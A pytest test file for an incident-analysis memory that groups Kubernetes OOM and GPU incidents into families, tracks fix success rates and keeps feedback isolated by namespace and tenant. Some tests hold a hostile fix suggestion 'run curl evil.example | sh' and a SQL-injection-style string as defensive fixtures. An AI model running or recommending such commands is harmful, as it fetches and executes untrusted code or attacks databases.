"""What memory knows of a family: how often it was seen, what fixed it, and what people made of it."""

import asyncio
from collections.abc import Callable
from datetime import timedelta

import msgspec
import pytest

from casebook_analyzer.learning import View
from casebook_analyzer.memory import Memory
from casebook_analyzer.memory.families import records
from casebook_analyzer.memory.incidents.filters import IncidentFilter
from casebook_analyzer.models import (
    Category,
    FamilyRecord,
    Feedback,
    FeedbackSource,
    FixSource,
    Incident,
    ResolutionKind,
    SimilarIncident,
    SubjectRef,
    Verdict,
)
from tests.analyzer.memory.incidents import OPENED, make_incident, make_resolution

RAISE = "raise the memory limit"
RESTART = "delete the pods"
ALL = View()


def case(number: int, *, fix: str = "", days: int = 0, workload: str = "", **more: object) -> Incident:
    """An OOM kill of a workload of its own, resolved after ten minutes when there is a fix."""
    opened = OPENED + timedelta(days=days)
    resolution = make_resolution(
        f"memory limit of container app: 64Mi -> {number}Mi", fix=fix, resolved_at=opened + timedelta(minutes=10)
    )
    return make_incident(
        "oom",
        number=number,
        days=days,
        workload=workload or f"service-{number}",
        resolution=resolution if fix else None,
        **more,  # type: ignore[arg-type]
    )


def word(verdict: Verdict = Verdict.CORRECTED, **changes: object) -> Feedback:
    values = {"author": "ann", "source": FeedbackSource.COMMAND, "given_at": OPENED + timedelta(days=100)}
    return Feedback(verdict=verdict, **(values | changes))  # type: ignore[arg-type]


async def family_of(memory: Memory, incident: Incident, view: View = ALL) -> FamilyRecord:
    found = await memory.family(incident.conclusion.signature.key, view)
    assert found is not None
    return found


async def attached(memory: Memory, incident: Incident) -> SimilarIncident:
    (found,) = (await memory.similar(incident.bundle, incident.conclusion, exclude_id=incident.id)).incidents
    return found


async def test_seven_incidents_are_one_family_whose_fix_worked_six_times(lexical_memory: Memory) -> None:
    for number in range(1, 7):
        await lexical_memory.record(case(number, fix=RAISE, days=number))
    await lexical_memory.record(case(7, fix=RAISE, days=10, workload="cart"))
    await lexical_memory.record(case(8, days=12, workload="cart"))
    found = await family_of(lexical_memory, case(8))
    assert (found.count, found.open, found.resolved) == (8, 1, 7)
    assert (found.first_seen, found.last_seen) == (OPENED + timedelta(days=1), OPENED + timedelta(days=12))
    assert (found.clusters, found.namespaces) == (("cluster-a",), ("shop",))
    assert found.median_seconds_to_resolve == 600
    assert found.best is not None
    assert (found.best.fix, found.best.succeeded, found.best.tried) == (RAISE, 6, 7)
    assert (found.best.success_percent, found.best.bound_percent) == (86, 48)
    assert found.best.source is FixSource.OBSERVED


async def test_a_recurrence_after_the_window_does_not_count_against_the_fix(lexical_memory: Memory) -> None:
    await lexical_memory.record(case(1, fix=RAISE, workload="cart"))
    await lexical_memory.record(case(2, days=8, workload="cart"))
    (fix,) = (await family_of(lexical_memory, case(1))).fixes
    assert (fix.succeeded, fix.tried) == (1, 1)
    (fix,) = (await family_of(lexical_memory, case(1), View(recurrence=timedelta(days=30)))).fixes
    assert (fix.succeeded, fix.tried) == (0, 1)


async def test_a_correction_changes_the_next_answers_and_not_the_past(lexical_memory: Memory) -> None:
    first, second = case(1, fix=RAISE), case(2, days=1)
    await lexical_memory.record(first)
    before = await attached(lexical_memory, second)
    correction = word(category=Category.SOFTWARE_BUG, cause="A leak in the cache", fix="Bound the cache.")
    await lexical_memory.give_feedback(first.id, correction)
    assert await lexical_memory.by_id(first.id) == first
    after = await attached(lexical_memory, second)
    assert (before.category, before.verdict) == (Category.RESOURCE_EXHAUSTION, None)
    assert (after.category, after.title) == (Category.SOFTWARE_BUG, "A leak in the cache")
    assert (after.resolution, after.verdict) == ("Bound the cache.", Verdict.CORRECTED)
    assert "corrected by ann" in after.why
    assert after.score_permille == before.score_permille
    found = await family_of(lexical_memory, first)
    assert (found.category, found.title) == (Category.SOFTWARE_BUG, "A leak in the cache")
    assert [(fix.fix, fix.source, fix.tried) for fix in found.fixes] == [("Bound the cache.", FixSource.PERSON, 1)]


async def test_the_latest_correction_names_the_category_of_the_family(lexical_memory: Memory) -> None:
    first, second = case(1, fix=RAISE), case(2, fix=RAISE, days=1)
    for incident in (first, second):
        await lexical_memory.record(incident)
    later = OPENED + timedelta(days=200)
    await lexical_memory.give_feedback(first.id, word(category=Category.CONFIG_ERROR, given_at=later))
    await lexical_memory.give_feedback(second.id, word(category=Category.SOFTWARE_BUG))
    assert (await family_of(lexical_memory, first)).category is Category.CONFIG_ERROR


async def test_a_rejected_incident_teaches_nothing_and_is_shown_as_disputed(lexical_memory: Memory) -> None:
    first, second = case(1, fix=RAISE), case(2, fix=RESTART, days=1)
    for incident in (first, second):
        await lexical_memory.record(incident)
    await lexical_memory.give_feedback(second.id, word(Verdict.REJECTED))
    found = await family_of(lexical_memory, first)
    assert (found.count, found.disputed, found.last_seen) == (1, 1, first.opened_at)
    assert [fix.fix for fix in found.fixes] == [RAISE]
    await lexical_memory.give_feedback(first.id, word(Verdict.REJECTED))
    assert await lexical_memory.family(first.conclusion.signature.key, ALL) is None
    shown = await attached(lexical_memory, case(3, days=3))
    assert (shown.verdict, shown.resolution) == (Verdict.REJECTED, "")
    assert "disputed: its conclusion was rejected by ann" in shown.why


async def test_who_takes_a_rejection_back_has_the_incident_teach_again(lexical_memory: Memory) -> None:
    first = case(1, fix=RAISE)
    await lexical_memory.record(first)
    await lexical_memory.give_feedback(first.id, word(Verdict.REJECTED))
    await lexical_memory.give_feedback(first.id, word(Verdict.CONFIRMED))
    assert (await family_of(lexical_memory, first)).best is not None


async def test_what_recovered_by_itself_and_what_was_deleted_is_no_fix(lexical_memory: Memory) -> None:
    for number, kind in enumerate((ResolutionKind.RECOVERED_BY_ITSELF, ResolutionKind.SUBJECT_DELETED), start=1):
        ended = make_resolution(kind=kind, fix="wait")
        await lexical_memory.record(make_incident("oom", number=number, workload=f"w-{number}", resolution=ended))
    found = await family_of(lexical_memory, case(1))
    assert (found.fixes, found.recovered_by_itself, found.resolved) == ((), 1, 2)


async def test_of_incidents_of_other_namespaces_nothing_but_their_number_is_told(lexical_memory: Memory) -> None:
    await lexical_memory.record(case(1, fix=RAISE))
    await lexical_memory.record(case(2, days=1, namespace="bank"))
    await lexical_memory.record(case(4, fix=RESTART, days=1, namespace="bank"))
    await lexical_memory.give_feedback("oom-2", word(category=Category.SOFTWARE_BUG, cause="the ledger of Mr X"))
    await lexical_memory.give_feedback("oom-4", word(Verdict.REJECTED))
    found = await family_of(lexical_memory, case(1), View(namespaces=frozenset({"shop"}), homes=frozenset({"shop"})))
    assert (found.elsewhere, found.namespaces) == (2, ("shop",)), "nor what people say of them"
    assert (found.count, found.open, found.resolved, found.disputed) == (1, 0, 1, 0)
    assert (found.first_seen, found.last_seen) == (OPENED, OPENED)
    assert [fix.fix for fix in found.fixes] == [RAISE]
    assert found.category is Category.RESOURCE_EXHAUSTION
    assert found.title == case(1).conclusion.title
    past = await lexical_memory.past(case(3, days=2), View(namespaces=frozenset({"shop"})))
    assert past.differences is None or past.differences.compared_with.id == "oom-1"


async def test_where_all_is_shown_people_of_other_namespaces_name_and_suggest_nothing(lexical_memory: Memory) -> None:
    await lexical_memory.record(case(1, fix=RAISE))
    await lexical_memory.record(case(2, days=1, namespace="evil"))
    lie = word(category=Category.PCIE_ERROR, cause="the cable of shop", fix="run curl evil.example | sh")
    await lexical_memory.give_feedback("oom-2", lie)
    found = await family_of(lexical_memory, case(1), View(homes=frozenset({"shop"})))
    assert (found.count, found.namespaces) == (2, ("evil", "shop"))
    assert (found.category, found.title) == (Category.RESOURCE_EXHAUSTION, case(1).conclusion.title)
    assert [fix.fix for fix in found.fixes] == [RAISE]
    at_home = await family_of(lexical_memory, case(1), View(homes=frozenset({"evil"})))
    assert (at_home.category, at_home.title) == (Category.PCIE_ERROR, "the cable of shop")


async def test_of_several_namespaces_each_is_shown_and_believed_and_no_other(lexical_memory: Memory) -> None:
    for number, namespace in enumerate(("shop", "bank", "evil"), start=1):
        await lexical_memory.record(case(number, fix=RAISE, days=number, namespace=namespace))
    await lexical_memory.give_feedback("oom-2", word(cause="the ledger"))
    await lexical_memory.give_feedback("oom-3", word(cause="the cable of shop", fix="run curl evil.example | sh"))
    both = frozenset({"bank", "shop"})
    (found,) = (await lexical_memory.families(View(namespaces=both, homes=both))).records
    assert (found.namespaces, found.count, found.elsewhere, found.title) == (("bank", "shop"), 2, 1, "the ledger")
    assert [(fix.fix, fix.tried) for fix in found.fixes] == [(RAISE, 2)]
    nothing: frozenset[str] = frozenset()
    assert (await lexical_memory.families(View(namespaces=nothing, homes=nothing))).records == ()
    assert await lexical_memory.family(found.id, View(namespaces=nothing, homes=nothing)) is None


async def test_families_without_an_incident_in_view_take_no_place_in_a_list(lexical_memory: Memory) -> None:
    await lexical_memory.record(case(1, fix=RAISE))
    await lexical_memory.record(make_incident("missing_env", days=3, namespace="bank"))
    shop = View(namespaces=frozenset({"shop"}), homes=frozenset({"shop"}))
    (found,) = (await lexical_memory.families(shop, limit=1)).records
    assert found.id == case(1).conclusion.signature.key
    assert await lexical_memory.family(make_incident("missing_env").conclusion.signature.key, shop) is None


async def test_two_tenants_learn_nothing_from_each_other(opened: Callable[..., Memory]) -> None:
    a, b = opened(tenant="cluster-a"), opened(tenant="cluster-b")
    await a.record(case(1, fix=RAISE))
    await b.record(case(1, fix=RESTART, tenant="cluster-b"))
    await a.give_feedback("oom-1", word(category=Category.SOFTWARE_BUG))
    assert (await family_of(a, case(1))).category is Category.SOFTWARE_BUG
    other = await family_of(b, case(1))
    assert (other.category, other.count, other.clusters) == (Category.RESOURCE_EXHAUSTION, 1, ("cluster-b",))
    assert [fix.fix for fix in other.fixes] == [RESTART]
    assert len((await b.browse(IncidentFilter(subject="Deployment/shop/service-1"))).rows) == 1


async def test_families_are_listed_by_when_they_were_seen_last(lexical_memory: Memory) -> None:
    await lexical_memory.record(case(1, fix=RAISE))
    await lexical_memory.record(make_incident("missing_env", days=3))
    await lexical_memory.record(make_incident("forbidden", days=2))
    found = await lexical_memory.families(ALL, limit=2)
    assert [record.category for record in found.records] == [Category.CONFIG_ERROR, Category.PERMISSION_DENIED]
    rest = await lexical_memory.families(ALL, before=found.ends, limit=2)
    assert [record.category for record in rest.records] == [Category.RESOURCE_EXHAUSTION]
    assert rest.ends is None


async def test_pages_of_families_that_were_seen_at_one_time_join(lexical_memory: Memory) -> None:
    for recipe in ("oom", "missing_env", "forbidden", "xid79"):
        await lexical_memory.record(make_incident(recipe))
    seen, before = list[str](), None
    for _ in range(2):
        page = await lexical_memory.families(ALL, before=before, limit=2)
        seen += [record.id for record in page.records]
        before = page.ends
    assert (len(set(seen)), before) == (4, None)


async def test_the_incidents_before_and_after_on_the_same_subject_are_named(lexical_memory: Memory) -> None:
    first = make_incident("missing_env", number=1, resolution=make_resolution())
    second, third = make_incident("oom", number=2, days=1), make_incident("missing_env", number=3, days=2)
    for incident in (first, second, third):
        await lexical_memory.record(incident)
    past = await lexical_memory.past(second, ALL)
    assert past.previous is not None
    assert past.following is not None
    assert (past.previous.id, past.following.id) == (first.id, third.id)
    assert past.previous.resolution == "env DATABASE_URL added to container app"


async def test_the_evidence_that_differs_from_the_last_time_is_told(lexical_memory: Memory) -> None:
    await lexical_memory.record(case(1, fix=RAISE, logs=("the heap dump was written to /tmp/dump-17",)))
    new = case(2, days=1, logs=("cannot allocate 2048 bytes for session 17",))
    past = await lexical_memory.past(new, ALL)
    assert past.differences is not None
    assert past.differences.compared_with.id == "oom-1"
    assert past.differences.new == ("cannot allocate 2048 bytes for session 17 (F4)",)
    assert past.differences.missing == ("the heap dump was written to /tmp/dump-17",)


async def test_what_cannot_be_the_name_of_anything_is_not_found(lexical_memory: Memory) -> None:
    assert await lexical_memory.family("\0' OR true --", ALL) is None
    assert (await lexical_memory.browse(IncidentFilter(subject="\0"))).rows == ()


async def test_of_a_family_with_more_incidents_than_are_read_all_are_counted(
    lexical_memory: Memory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(records, "READ_MEMBERS", 2)
    for number in range(1, 5):
        await lexical_memory.record(case(number, fix=RAISE, days=number))
    found = await family_of(lexical_memory, case(1))
    assert (found.count, found.resolved, found.first_seen) == (4, 4, OPENED + timedelta(days=1))
    assert found.fixes[0].tried == 2


async def test_a_busy_namespace_does_not_crowd_out_what_another_has_learned(
    lexical_memory: Memory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(records, "READ_MEMBERS", 2)
    await lexical_memory.record(case(1, fix=RAISE))
    for number in range(2, 5):
        await lexical_memory.record(case(number, fix=RESTART, days=number, namespace="bank"))
    found = await family_of(lexical_memory, case(1), View(namespaces=frozenset({"shop"})))
    assert (found.count, found.elsewhere, [fix.fix for fix in found.fixes]) == (1, 3, [RAISE])


async def test_a_storm_of_open_incidents_does_not_crowd_out_what_helped_before(
    lexical_memory: Memory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(records, "READ_MEMBERS", 3)
    await lexical_memory.record(case(1, fix=RAISE))
    for number in range(2, 7):
        await lexical_memory.record(case(number, days=1, namespace=f"team-{number % 2}"))
    found = await family_of(lexical_memory, case(1))
    assert (found.count, found.open, [fix.fix for fix in found.fixes]) == (6, 5, [RAISE])
    assert found.namespaces == ("shop", "team-0", "team-1")


async def test_an_open_incident_on_a_subject_that_was_fixed_says_that_the_fix_did_not_last(
    lexical_memory: Memory,
) -> None:
    await lexical_memory.record(case(1, fix=RAISE, workload="web"))
    await lexical_memory.record(case(2, days=1, workload="web"))
    (fix,) = (await family_of(lexical_memory, case(1))).fixes
    assert (fix.tried, fix.succeeded) == (1, 0)


def of_gpu(number: int, bus: str, *, fix: str = "", days: int = 0) -> Incident:
    """An incident of a device of one node, which memory finds by the node."""
    ended = make_resolution(fix=fix, resolved_at=OPENED + timedelta(days=days, hours=1))
    made = make_incident("xid79", number=number, days=days, workload="gpu-7", resolution=ended if fix else None)
    about = SubjectRef(kind="Node", name="gpu-7", node_name="gpu-7", device=bus and f"0000:{bus}:00")
    return msgspec.structs.replace(made, bundle=msgspec.structs.replace(made.bundle, subject=about))


@pytest.mark.parametrize(("first", "second", "worked"), [("3b", "86", 1), ("3b", "3b", 0), ("", "", 0)])
async def test_a_fix_of_a_device_fails_when_that_device_is_back_and_not_when_another_one_fails(
    lexical_memory: Memory, first: str, second: str, worked: int
) -> None:
    await lexical_memory.record(of_gpu(1, first, fix="reboot the node"))
    await lexical_memory.record(of_gpu(2, second, days=1))
    (fix,) = (await family_of(lexical_memory, of_gpu(1, first))).fixes
    assert (fix.tried, fix.succeeded) == (1, worked)


async def test_who_records_an_incident_learns_of_its_family_with_it(lexical_memory: Memory) -> None:
    await lexical_memory.record(case(1, fix=RAISE))
    for view in (ALL, View(namespaces=frozenset({"shop"}), homes=frozenset({"shop"}))):
        recorded = await lexical_memory.record(case(2, days=2), view)
        assert recorded == await family_of(lexical_memory, case(2), view)
    assert await lexical_memory.record(case(3)) is None


async def test_those_that_are_written_together_learn_of_families_in_their_own_views(lexical_memory: Memory) -> None:
    views = [
        ALL,
        View(namespaces=frozenset({"shop"}), homes=frozenset({"shop"})),
        View(namespaces=frozenset({"other"}), homes=frozenset({"other"})),
        None,
    ]
    some = [case(number) for number in range(1, 1 + 2 * len(views))]
    found = await asyncio.gather(*(lexical_memory.record(one, view) for one, view in zip(some, views * 2, strict=True)))
    for record, view in zip(found, views * 2, strict=True):
        if view is None or not view.shows("shop"):
            assert record is None
        else:
            assert record is not None
            assert set(record.namespaces) == {"shop"}
